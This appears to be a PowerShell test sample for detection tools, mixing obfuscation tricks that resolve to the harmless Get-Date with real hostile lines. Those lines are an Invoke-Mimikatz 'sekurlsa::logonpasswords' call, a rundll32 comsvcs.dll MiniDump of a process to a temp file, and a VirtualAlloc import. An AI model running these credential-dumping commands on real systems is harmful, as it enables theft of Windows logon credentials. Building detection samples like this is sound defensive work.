# Obfuscation, credential dumping and native code.
$verb = [char]73 + [char]69 + [char]88
$word = -join [char[]](71, 101, 116, 45, 68, 97, 116, 101)
$backwards = 'etaD-teG'
$forwards = -join $backwards[-1..-($backwards.Length)]
$letters = $backwards.ToCharArray()
[array]::Reverse($letters)
I`nv`oke-Ex`pression -Command $forwards
& ("{1}{0}" -f 'ex', 'i') 'Get-Date'
$name = "{0}{1}{2}" -f 'Get-', 'Da', 'te'
Invoke-Mimikatz -Command '"sekurlsa::logonpasswords"'
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full
Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
public static class Native {
    [DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);
}
"@
Write-Output -InputObject $verb, $word, $name
